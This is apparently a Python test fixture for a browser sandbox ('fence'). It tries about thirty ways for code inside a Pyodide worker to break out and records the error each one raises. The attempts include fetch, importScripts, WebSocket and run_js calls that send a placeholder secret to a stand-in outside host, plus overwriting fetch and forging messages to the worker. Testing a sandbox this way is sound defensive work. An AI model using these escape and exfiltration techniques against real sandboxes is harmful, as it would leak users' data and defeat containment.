"""What `fence.test.js` puts before network.py: code that tries to get out of the page's Python.

The test fills in OTHER, the address of another site, OWN, the page's own, and the attempts to leave
out because they would end the worker where nothing stops them.
"""

import asyncio
import builtins

OTHER, OWN, LEFT_OUT = "<other>", "<own>", "<left out>"
SECRET = "secret-of-this-device"


def attempts():
    """Every way out that fails at once, by name."""
    import urllib.request

    import js
    import pyodide_js
    from pyodide.code import run_js
    from pyodide.http import open_url

    scope = js.WorkerGlobalScope.prototype
    getter = js.Object.getOwnPropertyDescriptor(scope, "indexedDB").get
    script = js.URL.createObjectURL(js.Blob.new([f"fetch('{OTHER}/{SECRET}')"]))
    return {
        "indexedDB": lambda: js.indexedDB.open("kept"),
        "indexedDB of the prototype": lambda: getter.call(js.self),
        "caches": lambda: js.caches.open("kept"),
        "navigator.storage": lambda: js.navigator.storage.getDirectory(),
        "localStorage": lambda: js.localStorage.setItem("kept", SECRET),
        "document": lambda: js.document.createElement("img"),
        "Worker": lambda: js.Worker.new(script),
        "importScripts": lambda: js.importScripts(f"{OTHER}/{SECRET}"),
        "BroadcastChannel": lambda: js.BroadcastChannel.new("all pages"),
        "postMessage": lambda: js.postMessage(js.JSON.parse('{"type": "crashed", "message": "x"}')),
        "close": lambda: js.close(),
        "XMLHttpRequest": lambda: js.XMLHttpRequest.new(),
        "WebSocket": lambda: js.WebSocket.new(OTHER.replace("http", "ws")),
        "EventSource": lambda: js.EventSource.new(f"{OTHER}/{SECRET}"),
        "open_url": lambda: open_url(f"{OTHER}/{SECRET}"),
        "urllib": lambda: urllib.request.urlopen(f"{OTHER}/{SECRET}", timeout=2),
        "eval": lambda: js.eval("1 + 1"),
        "run_js": lambda: run_js(f"import('{OTHER}/{SECRET}')"),
        "Function": lambda: js.Function.new(f"return import('{OTHER}/{SECRET}')")(),
        "another fetch": lambda: _set(js.self, "fetch", None),
        "taking the fence down": lambda: _set(js.self, "indexedDB", None),
        "the handler of messages": lambda: js.self.onmessage.call(js.self),
        "a message to itself": lambda: _command(js, '{"type": "reset", "run": 99, "settings": {}}'),
        "an unknown module": lambda: pyodide_js.pyimport("nowhere"),
    }


def later():
    """Every way out that fails after a moment, by name."""
    import js
    import micropip
    import pyodide_js
    from pyodide.http import pyfetch

    post = js.JSON.parse('{"method": "POST", "mode": "no-cors", "body": "' + SECRET + '"}')
    return {
        "fetch": lambda: js.fetch(f"{OTHER}/{SECRET}"),
        "fetch of a Request": lambda: js.fetch(js.Request.new(f"{OTHER}/{SECRET}")),
        "fetch to post": lambda: js.fetch(OTHER, post),
        "pyfetch": lambda: pyfetch(f"{OTHER}/{SECRET}"),
        "a wheel": lambda: micropip.install(f"{OTHER}/x-1.0-py3-none-any.whl"),
        "a package": lambda: micropip.install("torch"),
        "a package by Pyodide": lambda: _loaded(pyodide_js, f"{OTHER}/x-1.0-py3-none-any.whl"),
        "a query": lambda: js.fetch(f"{OWN}pyodide/rest.pack?{SECRET}"),
        "a path": lambda: js.fetch(f"{OWN}pyodide/{SECRET}"),
        "the page's own code": lambda: js.fetch(f"{OWN}worker.js"),
    }


def _set(target, name, value):
    setattr(target, name, value)


def _command(js, text):
    """A message as if it came from the page: it fails in that nobody listens."""
    message = js.MessageEvent.new("message", js.JSON.parse('{"data": ' + text + "}"))
    js.self.dispatchEvent(message)
    raise RuntimeError(f"trusted: {message.isTrusted}")


async def _loaded(pyodide_js, address):
    """`loadPackage` says on the console what went wrong, and nothing else."""
    from pyodide.ffi import create_proxy

    said = []
    hear = create_proxy(said.append)
    await pyodide_js.loadPackage(address, errorCallback=hear, messageCallback=hear)
    raise RuntimeError(" ".join(said) or "nothing was said")


def _said(error):
    """An exception with those that it comes from, as a traceback shows them."""
    words = f"{type(error).__name__}: {error}"
    inner = error.__cause__ or error.__context__
    return f"{words} from {_said(inner)}" if inner else words


def try_all():
    """The error of each way out that fails at once, by name; 'nothing' if there is none."""
    said = {}
    for name, attempt in attempts().items():
        if name in LEFT_OUT.split(", "):
            continue
        said[name] = "nothing"
        try:
            attempt()
        except Exception as error:
            said[name] = _said(error)
    return said


async def _try_later(said):
    for name, attempt in later().items():
        said[name] = "nothing"
        try:
            await attempt()
        except Exception as error:
            said[name] = _said(error)
    said["done"] = "done"


def begin():
    """Begin with those that take a moment; `report` says what came of them."""
    builtins.fence_said = try_all()
    builtins.fence_task = asyncio.ensure_future(_try_later(builtins.fence_said))


def report():
    """Fail with all that was said, which is how it gets to the test."""
    import json

    raise RuntimeError(json.dumps(builtins.fence_said))
